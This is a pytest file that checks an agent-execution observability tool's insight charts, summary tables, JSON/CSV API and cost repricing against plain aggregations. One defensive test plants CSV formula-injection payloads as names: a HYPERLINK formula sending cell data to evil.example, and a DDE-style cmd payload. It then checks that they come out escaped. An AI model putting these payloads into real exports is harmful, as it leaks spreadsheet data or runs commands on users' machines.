"""Insights: each chart's API values equal a plain aggregation (in Python) over the spans written.

The dataset is the SQL fixture (agents and automations, a retry, a live run, one run three days
old) plus generated executions with random statuses, durations, models, tools and steps; the
expectations are computed here from what was written, not from the SQL under test.
"""

from __future__ import annotations

import csv
import io
import json
import random
import urllib.error
import urllib.request
from collections import Counter, defaultdict
from datetime import UTC, datetime, timedelta

import pytest

import sql_fixture_data as fx
from execlog_otel import pricing
from execlog_otel import semconv as sc
from execlog_otel.store import insights, schema
from execlog_otel.store.filters import ListFilter

STATUSES = ["Success", "Failed", "Partially Executed", "Rejected"]
MODELS = ["gpt-4o", "gpt-4o-mini", "claude-sonnet-4", "mystery-model"]
TOOLS = ["search", "calc", "browse"]


def generated_runs(seed: int = 7) -> list[fx.Run]:
    rng = random.Random(seed)
    runs = []
    for i in range(40):
        kind = rng.choice(["agent", "automation"])
        steps = []
        for j in range(rng.randint(1, 4)):
            choice = rng.random()
            if choice < 0.4:
                steps.append(fx.llm(rng.choice(MODELS), rng.randint(1, 5000), rng.randint(1, 900), offset=0.1 * j))
            elif choice < 0.7:
                steps.append(fx.tool(rng.choice(TOOLS), offset=0.1 * j, dur=rng.randint(1, 50) / 10,
                                     error="x" if rng.random() < 0.2 else ""))
            else:
                failed = rng.random() < 0.25
                steps.append(fx.step(f"step-{rng.randint(1, 3)}", 0.1 * j, rng.randint(1, 80) / 10,
                                     status="Failed" if failed else "Success", error="bad" if failed else ""))
        status = rng.choice(STATUSES)
        runs.append(fx.Run(f"G{i}", kind, f"{kind}-{rng.randint(1, 3)}", "generated", rng.randint(0, 3000),
                           rng.randint(1, 300) / 10, status, steps, error="e" if status == "Failed" else ""))
    return runs


@pytest.fixture
def dataset(store, monkeypatch):
    extra = generated_runs()
    base = fx.runs
    monkeypatch.setattr(fx, "runs", lambda: base() + extra)
    loaded = fx.load(store)
    return loaded, {r.label: r for r in fx.runs()}


def executions(runs: dict[str, fx.Run]) -> list[fx.Run]:
    """Runs as executions: the newest attempt stands for a retried one."""
    retried = {r.retry_of for r in runs.values() if r.retry_of}
    return [r for r in runs.values() if r.label not in retried]


def window_filter(loaded, **more) -> ListFilter:
    # From an hour before T0: the run three days old (B3) is outside, everything else inside.
    t0 = int(loaded.t0.timestamp()) * fx.S
    return ListFilter(from_ns=t0 - 3600 * fx.S, to_ns=t0 + 86_400 * fx.S, **more)


def chart(store, name: str, f: ListFilter) -> list[dict]:
    data = insights.run(store, name, f)
    return [dict(zip(data.columns, row, strict=True)) for row in data.rows]


def usage(st: fx.Step) -> tuple[str, int, int]:
    """Model and tokens of a step as written (current GenAI names, or the deprecated ones)."""
    a = st.attrs
    model = a.get(sc.GEN_AI_RESPONSE_MODEL) or a.get(sc.GEN_AI_REQUEST_MODEL) or ""
    tin = int(a.get(sc.GEN_AI_USAGE_INPUT_TOKENS) or a.get(sc.GEN_AI_USAGE_PROMPT_TOKENS) or 0)
    tout = int(a.get(sc.GEN_AI_USAGE_OUTPUT_TOKENS) or a.get(sc.GEN_AI_USAGE_COMPLETION_TOKENS) or 0)
    return model, tin, tout


def quantile_sketched(values: list[float], level: float) -> float:
    """The value a DDSketch (quantilesDD) reports within its relative accuracy: the one of rank level * (n - 1)."""
    ordered = sorted(values)
    return ordered[int(level * (len(ordered) - 1))]


# quantilesDD's relative accuracy, the first of its parameters.
SKETCH_ACCURACY = float(schema.STEP_DURATION_QUANTILES.split(",")[0])


def _setup(dataset):
    loaded, runs = dataset
    inside = [r for r in runs.values() if r.offset_s >= -3600]
    execs = [r for r in executions(runs) if r.offset_s >= -3600 or r.retry_of]
    return window_filter(loaded), inside, execs


def test_execution_charts_equal_a_plain_aggregation(store, dataset):
    f, inside, execs = _setup(dataset)
    by_status = Counter(r.status for r in execs)
    got = Counter()
    for row in chart(store, "status_over_time", f):
        got[row["status"]] += row["executions"]
    assert got == by_status

    finished = [r for r in execs if r.status not in ("Running", "Queued", "Pending", "Paused")]
    rate = chart(store, "failure_rate", f)
    assert sum(r["failed"] for r in rate) == sum(r.status in ("Failed", "Rejected") for r in finished)
    assert sum(r["finished"] for r in rate) == len(finished)

    durations = chart(store, "duration", f)
    assert sum(r["executions"] for r in durations) == len(finished)

    failing = [((r["kind"], r["name"]), (r["executions"], r["failed"])) for r in chart(store, "top_failing", f)]
    expected = defaultdict(lambda: [0, 0])
    for r in execs:
        expected[(r.kind, r.name)][0] += 1
        expected[(r.kind, r.name)][1] += r.status in ("Failed", "Rejected")
    assert failing == [(k, tuple(v)) for k, v in sorted(expected.items(), key=lambda kv: (-kv[1][1], kv[0][1]))
                       if v[1] > 0][:10]


def test_step_and_tool_charts_equal_a_plain_aggregation(store, dataset):
    f, inside, _ = _setup(dataset)
    steps = defaultdict(list)
    failures = Counter()
    for r in inside:
        if r.duration_s is None:
            continue
        for st in r.steps:
            steps[st.name].append(st.duration_s * 1000)
            failures[st.name] += bool(st.error) or st.attrs.get(sc.STEP_STATUS) == "Failed"
    slow = chart(store, "slowest_steps", f)
    assert {r["step"]: (r["runs"], r["p50_ms"], r["p95_ms"]) for r in slow} == {
        name: (len(v), pytest.approx(quantile_sketched(v, 0.5), rel=SKETCH_ACCURACY, abs=0.1),
               pytest.approx(quantile_sketched(v, 0.95), rel=SKETCH_ACCURACY, abs=0.1))
        for name, v in sorted(steps.items(), key=lambda kv: (-quantile_sketched(kv[1], 0.95), kv[0]))[:10]}
    most_failing = chart(store, "failing_steps", f)
    assert {r["step"]: r["failures"] for r in most_failing} == dict(
        sorted(((k, v) for k, v in failures.items() if v), key=lambda kv: (-kv[1], kv[0]))[:10])

    tools = Counter(t for r in inside if r.duration_s is not None
                    for t in {st.attrs.get(sc.GEN_AI_TOOL_NAME) for st in r.steps} if t)
    assert {r["tool"]: r["runs"] for r in chart(store, "tools", f)} == dict(tools)


def test_cost_charts_equal_a_plain_aggregation(store, dataset):
    f, inside, _ = _setup(dataset)
    prices = {p.model: p for p in pricing.shipped()}
    cost, tokens, unpriced = defaultdict(float), Counter(), Counter()
    for r in inside:
        for st in r.steps:
            model, tin, tout = usage(st)
            if not model:
                continue
            tokens[model] += tin + tout
            if model in prices:
                cost[model] += (tin * prices[model].input + tout * prices[model].output) / 1e6
            else:
                unpriced[model] += 1
    by_model = defaultdict(lambda: [0, 0.0, 0, False])
    for row in chart(store, "cost_by_model", f):
        entry = by_model[row["model"]]
        entry[0] += row["tokens"]
        entry[1] += row["cost_usd"] or 0.0
        entry[2] += row["unpriced_steps"]
        entry[3] = entry[3] or row["cost_usd"] is None
    assert {m: v[0] for m, v in by_model.items()} == dict(tokens)
    for model, v in by_model.items():
        if model in prices:
            assert v[1] == pytest.approx(cost[model], abs=1e-5), model
        else:
            assert v[3] and v[2] == unpriced[model], model  # no price: NULL, not 0


def test_cost_chart_from_the_hourly_totals_equals_the_one_from_every_attempt(store, dataset):
    """Over whole-hour intervals and no filter but the range, the cost chart reads the hourly totals
    (execlog_usage_hourly); read from every attempt's usage instead, it has the same rows."""
    f, _, _ = _setup(dataset)
    p = insights.params(f)
    assert insights.reads_hourly("cost_by_model", False, p["bucket_s"])

    def rows(hourly: bool) -> list[tuple]:
        return store.pool.query(insights.sql("cost_by_model", store.database, False, hourly), parameters=p).result_rows

    hourly, per_attempt = rows(True), rows(False)
    assert [r[:3] + r[4:] for r in hourly] == [r[:3] + r[4:] for r in per_attempt] != []
    assert [r[3] for r in hourly] == [pytest.approx(r[3], abs=2e-6) if r[3] is not None else None
                                      for r in per_attempt]
    assert not insights.reads_hourly("cost_by_model", True, p["bucket_s"])  # kind, name, status: per attempt


def test_tokens_by_name_equal_a_plain_aggregation(store, dataset):
    f, inside, _ = _setup(dataset)
    by_name = Counter()
    for row in chart(store, "cost_by_name", f):
        by_name[row["name"]] += row["tokens"]
    expected_names = Counter()
    for r in inside:
        for st in r.steps:
            model, tin, tout = usage(st)
            if model:
                expected_names[r.name] += tin + tout
    assert by_name == expected_names


def test_filters_are_the_listings(store, dataset):
    loaded, runs = dataset
    f = window_filter(loaded, kind="agent", status=("Failed",))
    execs = [r for r in executions(runs) if r.kind == "agent" and r.status == "Failed" and r.offset_s >= -3600]
    assert sum(r["executions"] for r in chart(store, "status_over_time", f)) == len(execs)
    names = {r["name"] for r in chart(store, "cost_by_name", f)}
    assert names <= {r.name for r in execs}
    f = window_filter(loaded, name="sync-crm")
    assert {(r["kind"], r["name"]) for r in chart(store, "top_failing", f)} == {("automation", "sync-crm")}


def test_api_serves_json_csv_and_clear_errors(server, store, dataset):
    loaded, _ = dataset
    base = f"{server.url}/api/insights"
    with urllib.request.urlopen(base, timeout=10) as resp:
        ids = [c["id"] for c in json.loads(resp.read())["charts"]]
    assert ids == list(insights.CHARTS)
    t0 = loaded.t0.isoformat().replace("+00:00", "Z")
    with urllib.request.urlopen(f"{base}/top_failing?from={t0}&kind=automation", timeout=10) as resp:
        data = json.loads(resp.read())
    assert data["columns"] == ["kind", "name", "executions", "failed", "failure_rate"]
    assert {r[0] for r in data["rows"]} == {"automation"}
    with urllib.request.urlopen(f"{base}/top_failing?from={t0}&kind=automation&format=csv", timeout=10) as resp:
        assert resp.headers["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(resp.read().decode())))
    assert rows[0] == data["columns"] and len(rows) == len(data["rows"]) + 1
    for bad, message in (("nope", "no chart 'nope'"), ("duration?kind=robot", "kind='robot'"),
                         ("duration?format=xml", "format='xml'")):
        with pytest.raises(urllib.error.HTTPError) as exc:
            urllib.request.urlopen(f"{base}/{bad}", timeout=10)
        assert exc.value.code == 400 and message in json.loads(exc.value.read())["error"]


def test_openapi_documents_every_chart():
    from importlib.resources import files

    import yaml

    doc = yaml.safe_load(files("execlog_otel.viewer").joinpath("openapi.yaml").read_text(encoding="utf-8"))
    assert "/api/insights" in doc["paths"]
    op = doc["paths"]["/api/insights/{chart}"]["get"]
    params = [doc["components"]["parameters"][p["$ref"].rsplit("/", 1)[1]] if "$ref" in p else p
              for p in op["parameters"]]
    chart_param = next(p for p in params if p["name"] == "chart")
    assert chart_param["schema"]["enum"] == list(insights.CHARTS)


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(server, store, monkeypatch):
    """Agent and step names come from span data: in the CSV, one that a spreadsheet would evaluate as a formula
    (=HYPERLINK sends the sheet's cells away) starts with a quote; numbers stay numbers."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    run = fx.Run("H1", "agent", hostile, "generated", 0, 2.0, "Failed",
                 [fx.step("@SUM(1+1)*cmd|' /C calc'!A0", 0.1, 1.0, status="Failed", error="bad")], error="e")
    monkeypatch.setattr(fx, "runs", lambda: [run])
    loaded = fx.load(store)
    t0 = loaded.t0.isoformat().replace("+00:00", "Z")
    rows = {}
    for name in ("top_failing", "failing_steps"):
        with urllib.request.urlopen(f"{server.url}/api/insights/{name}?from={t0}&format=csv", timeout=10) as resp:
            rows[name] = list(csv.reader(io.StringIO(resp.read().decode())))
    assert rows["top_failing"][1] == ["agent", "'" + hostile, "1", "1", "1.0"]
    assert rows["failing_steps"][1] == ["'@SUM(1+1)*cmd\\|' /C calc'!A0", "1", "1"]


def _summarised_as_stored_an_hour_ago(store, table: str, summary: str, total: str, by: str) -> dict:
    """Every row of ``table`` as stored an hour ago, then the hourly recomputation of the summaries: ``summary``'s
    sum of ``total`` per ``by``."""
    store.pool.command(f"ALTER TABLE {store.table(table)} UPDATE Inserted = now() - INTERVAL 1 HOUR WHERE 1",
                       settings={"mutations_sync": 2})
    store.refresh_summaries()
    return dict(store.pool.query(f"SELECT {by}, sum({total}) FROM {store.table(summary)} GROUP BY {by}").result_rows)


def _step_charts(store, f: ListFilter) -> tuple[list[dict], list[dict]]:
    return chart(store, "slowest_steps", f), chart(store, "failing_steps", f)


def _expected_steps(runs: list[fx.Run], kind: str = "") -> dict[str, tuple[int, int]]:
    """Runs and failures per step name of the finished runs (of one kind), as a plain aggregation."""
    out: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    for r in runs:
        if r.duration_s is None or (kind and r.kind != kind):
            continue
        for st in r.steps:
            out[st.name][0] += 1
            out[st.name][1] += bool(st.error) or st.attrs.get(sc.STEP_STATUS) == "Failed"
    return {name: (n, failed) for name, (n, failed) in out.items()}


def test_step_charts_read_closed_days_from_their_summary(store, monkeypatch):
    """Days that ended before yesterday are read from execlog_step_days once it has been recomputed: the same
    answers as from the steps, a step stored after the summary still counts, and the summary is what is read."""
    now = datetime.now(UTC)
    runs = generated_runs(seed=11)
    monkeypatch.setattr(fx, "runs", lambda: runs)
    fx.load(store, now=now - timedelta(days=5))
    week = int((now - timedelta(days=7)).timestamp()) * fx.S
    filters = {kind: ListFilter(from_ns=week, to_ns=int(now.timestamp()) * fx.S, kind=kind or None)
               for kind in ("", "agent")}
    for kind, f in filters.items():
        slow, failing = _step_charts(store, f)
        expected = _expected_steps(runs, kind)
        assert {r["step"]: r["runs"] for r in slow} == dict(
            sorted(((k, v[0]) for k, v in expected.items()), key=lambda kv: kv[0]))  # fewer than 10 names
        assert {r["step"]: (r["runs"], r["failures"]) for r in failing} == {k: v for k, v in expected.items() if v[1]}
    from_steps = {kind: _step_charts(store, f) for kind, f in filters.items()}
    steps_table = store.table("execlog_steps")

    # The steps as stored an hour ago, then the hourly recomputation: every step is in the summary, per kind.
    summarised = _summarised_as_stored_an_hour_ago(store, "execlog_steps", "execlog_step_days", "Runs", "Kind")
    assert summarised == {k: sum(len(r.steps) for r in runs if r.kind == k and r.duration_s is not None)
                          for k in ("agent", "automation")}
    assert {kind: _step_charts(store, f) for kind, f in filters.items()} == from_steps

    # Without the summarised steps, the charts do not change: the summary is what they read.
    store.pool.command(f"ALTER TABLE {steps_table} DELETE WHERE Start < toStartOfDay(now(), 'UTC') - INTERVAL 1 DAY",
                       settings={"mutations_sync": 2})
    assert store.pool.query(f"SELECT count() FROM {steps_table}").result_rows[0][0] == 0
    assert {kind: _step_charts(store, f) for kind, f in filters.items()} == from_steps

    # A step stored after the summary was made, in a day it summarised, is counted with it.
    late = fx.Run("LATE", "agent", "agent-1", "generated", 100, 2.0, "Failed",
                  [fx.step("step-1", 0.1, 1.5, status="Failed", error="late")], error="e")
    monkeypatch.setattr(fx, "runs", lambda: [late])
    fx.load(store, now=now - timedelta(days=5))
    for kind, f in filters.items():
        failing = {r["step"]: (r["runs"], r["failures"]) for r in _step_charts(store, f)[1]}
        before = {r["step"]: (r["runs"], r["failures"]) for r in from_steps[kind][1]}
        runs_before, failures_before = before.get("step-1", (0, 0))
        assert failing["step-1"] == (runs_before + 1, failures_before + 1)


def _tool_charts(store, f: ListFilter) -> tuple[dict[str, int], dict[str, int]]:
    return ({r["tool"]: r["runs"] for r in chart(store, "tools", f)},
            {r["connector"]: r["runs"] for r in chart(store, "connectors", f)})


def test_tool_charts_read_closed_days_from_their_summary(store, monkeypatch):
    """Attempts of days that ended before yesterday are read from execlog_tool_days once it has been recomputed:
    the same runs per tool and connector as from the pairs, a pair stored after the summary still counts, a span
    re-sent for a tool an attempt was already counted for does not count it twice, and the summary is what is
    read."""
    now = datetime.now(UTC)
    runs = generated_runs(seed=13)
    for i, r in enumerate(runs[:6]):  # a few connector steps too
        r.steps.append(fx.step(f"{('crm', 'mail')[i % 2]}.request", 0.5, 0.2, kind=sc.StepKind.CONNECTOR,
                               **{sc.CONNECTOR: ("crm", "mail")[i % 2]}))
    monkeypatch.setattr(fx, "runs", lambda: runs)
    fx.load(store, now=now - timedelta(days=5))
    week = int((now - timedelta(days=7)).timestamp()) * fx.S
    filters = {kind: ListFilter(from_ns=week, to_ns=int(now.timestamp()) * fx.S, kind=kind or None)
               for kind in ("", "agent")}

    def expected(kind: str, attr: str) -> Counter:
        return Counter(v for r in runs if r.duration_s is not None and (not kind or r.kind == kind)
                       for v in {st.attrs.get(attr) for st in r.steps} if v)

    for kind, f in filters.items():
        assert _tool_charts(store, f) == (expected(kind, sc.GEN_AI_TOOL_NAME), expected(kind, sc.CONNECTOR))
    from_pairs = {kind: _tool_charts(store, f) for kind, f in filters.items()}
    pairs = store.table("execlog_trace_tools")

    # The pairs as stored an hour ago, then the hourly recomputation: every finished run's pair is summarised.
    summarised = _summarised_as_stored_an_hour_ago(store, "execlog_trace_tools", "execlog_tool_days", "Runs", "Kind")
    assert summarised == {k: sum(expected(k, sc.GEN_AI_TOOL_NAME).values()) + sum(expected(k, sc.CONNECTOR).values())
                          for k in ("agent", "automation")}
    assert {kind: _tool_charts(store, f) for kind, f in filters.items()} == from_pairs

    # Spans of a summarised agent run stored after the summary: the tool it was counted for again (not twice),
    # and a tool and a connector it had not used (counted).
    again = next(r for r in runs if r.kind == "agent" and r.duration_s is not None
                 and any(st.attrs.get(sc.GEN_AI_TOOL_NAME) for st in r.steps))
    used = next(st.attrs[sc.GEN_AI_TOOL_NAME] for st in again.steps if st.attrs.get(sc.GEN_AI_TOOL_NAME))
    resent = fx.Run(again.label, again.kind, again.name, again.service, again.offset_s, again.duration_s,
                    again.status, [fx.tool(used, offset=0.3), fx.tool("late-tool", offset=0.4),
                                   fx.step("erp.request", 0.6, 0.1, kind=sc.StepKind.CONNECTOR,
                                           **{sc.CONNECTOR: "erp"})], error=again.error)
    monkeypatch.setattr(fx, "runs", lambda: [resent])
    fx.load(store, now=now - timedelta(days=5))
    for kind, f in filters.items():
        tools, connectors = from_pairs[kind]
        assert _tool_charts(store, f) == ({**tools, "late-tool": 1}, {**connectors, "erp": 1})

    # Without the pairs of the summarised days (the late ones too), the charts are the summary's: what they read.
    store.pool.command(f"ALTER TABLE {pairs} DELETE WHERE Start < toStartOfDay(now(), 'UTC') - INTERVAL 1 DAY",
                       settings={"mutations_sync": 2})
    assert store.pool.query(f"SELECT count() FROM {pairs}").result_rows[0][0] == 0
    assert {kind: _tool_charts(store, f) for kind, f in filters.items()} == from_pairs


def _cost_charts(store, f: ListFilter) -> tuple[list[tuple], list[tuple]]:
    """The cost charts' rows, costs rounded past the float sums' order (summaries add them in another)."""
    def rows(name: str) -> list[tuple]:
        return [tuple(round(v, 5) if isinstance(v, float) else v for v in r.values()) for r in chart(store, name, f)]
    return rows("cost_by_name"), rows("cost_by_model")


def test_cost_charts_read_closed_hours_from_their_summary(store, monkeypatch):
    """Hours that ended more than an hour ago are read from execlog_named_usage_hourly once it has been
    recomputed: the same tokens and costs by name (and by model for a kind or a name), an LLM step stored after
    the summary still counts, and the summary is what is read."""
    now = datetime.now(UTC)
    runs = generated_runs(seed=5)
    monkeypatch.setattr(fx, "runs", lambda: runs)
    fx.load(store, now=now - timedelta(days=5))
    week = int((now - timedelta(days=7)).timestamp()) * fx.S
    filters = {key: ListFilter(from_ns=week, to_ns=int(now.timestamp()) * fx.S, **key_filter)
               for key, key_filter in (("all", {}), ("agent", {"kind": "agent"}), ("name", {"name": "agent-1"}))}
    expected = Counter()
    for r in runs:
        for st in r.steps:
            model, tin, tout = usage(st)
            if model and r.duration_s is not None:
                expected[r.name] += tin + tout
    by_name = Counter()
    for row in chart(store, "cost_by_name", filters["all"]):
        by_name[row["name"]] += row["tokens"]
    assert by_name == expected
    from_steps = {key: _cost_charts(store, f) for key, f in filters.items()}
    assert all(rows for charts in from_steps.values() for rows in charts)
    usage_table = store.table("execlog_llm_usage")

    summarised = _summarised_as_stored_an_hour_ago(store, "execlog_llm_usage", "execlog_named_usage_hourly",
                                                   "TotalTokens", "Name")
    assert summarised == dict(expected)
    assert {key: _cost_charts(store, f) for key, f in filters.items()} == from_steps

    # Without the summarised LLM steps, the charts by name (and by model for a kind or a name) do not change.
    store.pool.command(f"ALTER TABLE {usage_table} DELETE WHERE Start < toStartOfHour(now(), 'UTC') - INTERVAL 1 HOUR",
                       settings={"mutations_sync": 2})
    assert store.pool.query(f"SELECT count() FROM {usage_table}").result_rows[0][0] == 0
    for key, f in filters.items():
        by_name_rows, by_model_rows = _cost_charts(store, f)
        assert by_name_rows == from_steps[key][0]
        if key != "all":  # over every execution the cost by model reads the hourly totals (execlog_usage_hourly)
            assert by_model_rows == from_steps[key][1]

    # An LLM step stored after the summary was made, in an hour it summarised, is counted with it.
    late = fx.Run("LATE", "agent", "agent-1", "generated", 100, 2.0, "Success", [fx.llm("gpt-4o", 1000, 10)])
    monkeypatch.setattr(fx, "runs", lambda: [late])
    fx.load(store, now=now - timedelta(days=5))
    tokens = sum(r["tokens"] for r in chart(store, "cost_by_name", filters["name"]))
    assert tokens == expected["agent-1"] + 1010


def test_a_price_change_reprices_the_cost_summary(store, monkeypatch, tmp_path):
    """Past hours' cost by name follows a price change: the summary is recomputed with the stored costs."""
    now = datetime.now(UTC)
    runs = [fx.Run("P1", "agent", "agent-1", "generated", 100, 2.0, "Success", [fx.llm("gpt-4o", 1_000_000, 0)])]
    monkeypatch.setattr(fx, "runs", lambda: runs)
    fx.load(store, now=now - timedelta(days=5))
    store.pool.command(f"ALTER TABLE {store.table('execlog_llm_usage')} UPDATE Inserted = now() - INTERVAL 1 HOUR "
                       "WHERE 1", settings={"mutations_sync": 2})
    store.refresh_summaries()
    f = ListFilter(from_ns=int((now - timedelta(days=7)).timestamp()) * fx.S, to_ns=int(now.timestamp()) * fx.S)

    def cost() -> float:
        return sum(r["cost_usd"] for r in chart(store, "cost_by_name", f))

    shipped = next(p for p in pricing.shipped() if p.model == "gpt-4o")
    assert cost() == pytest.approx(shipped.input)  # a million input tokens
    override = tmp_path / "prices.toml"
    override.write_text('[[model]]\nname = "gpt-4o"\nprovider = "openai"\ninput = 7.0\noutput = 12.0\n')
    store.prices_file = str(override)
    store.migrate()  # what a restart of execlog serve does
    assert cost() == pytest.approx(7.0)
